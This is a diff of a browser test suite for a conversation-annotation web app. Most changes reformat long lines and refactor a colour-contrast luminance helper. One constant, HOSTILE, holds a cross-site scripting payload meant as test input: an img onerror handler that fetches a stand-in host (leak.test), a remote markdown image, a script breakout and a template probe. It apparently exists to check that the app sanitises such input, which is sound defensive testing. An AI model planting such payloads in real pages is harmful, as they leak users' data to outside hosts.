@@ -126,7 +126,9 @@ def test_offsets_count_code_points(open_case: Open, harness: Harness, case: str,
 def test_marks_may_overlap_and_offsets_stay_right_across_them(open_case: Open, harness: Harness, case: str) -> None:
     page = open_case(samples.conversation(1))
     text = samples.ANSWER
-    for number, quote in enumerate(("long. That is hard", "is hard, and it happens", "very long. That is hard, and"), 1):
+    for number, quote in enumerate(
+        ("long. That is hard", "is hard, and it happens", "very long. That is hard, and"), 1
+    ):
         select(page, text, quote)
         page.keyboard.press("6")
         popover(page).get_by_role("button", name="Save").click()
@@ -321,8 +323,8 @@ CONTRAST = """root => {
     canvas.fillRect(0, 0, 1, 1);
     return [...canvas.getImageData(0, 0, 1, 1).data];
   };
-  const light = ([r, g, b]) => [r, g, b].map((v) => v / 255).map((v) => v <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4)
-    .reduce((sum, v, i) => sum + v * [0.2126, 0.7152, 0.0722][i], 0);
+  const linear = (v) => v <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4;
+  const light = (color) => [0.2126, 0.7152, 0.0722].reduce((sum, share, i) => sum + share * linear(color[i] / 255), 0);
   const up = (node) => node.parentElement ?? node.getRootNode().host;
   const ground = (node) => {
     const layers = [];
@@ -350,7 +352,9 @@ CONTRAST = """root => {
 def test_words_are_legible_in_light_and_dark(open_case: Open, dark: bool) -> None:
     text = samples.ANSWER
     quotes = ("It sounds as if", "You could tell me", "try harder", "one small thing")
-    marks = [samples.mark(c, text, q, c, note="A note.") for c, q in zip(("Q1", "m4", "H19", "H12"), quotes, strict=True)]
+    marks = [
+        samples.mark(c, text, q, c, note="A note.") for c, q in zip(("Q1", "m4", "H19", "H12"), quotes, strict=True)
+    ]
     turns = [samples.turn("t1", [[samples.answer("a", marks=marks)], [samples.failed("b")], [samples.answer("c")]])]
     page = open_case(samples.conversation(3, turns), dark=dark)
     select(page, text, "tonight", 2)
@@ -359,7 +363,9 @@ def test_words_are_legible_in_light_and_dark(open_case: Open, dark: bool) -> Non
     assert page.locator(".part").evaluate(CONTRAST) == []
 
 
-HOSTILE = '<img src=x onerror="fetch(`http://leak.test/`)"> ![p](http://leak.test/p) </script><script>leak()</script> {{x}}'
+HOSTILE = (
+    '<img src=x onerror="fetch(`http://leak.test/`)"> ![p](http://leak.test/p) </script><script>leak()</script> {{x}}'
+)
 
 
 def hostile_conversation() -> Json:
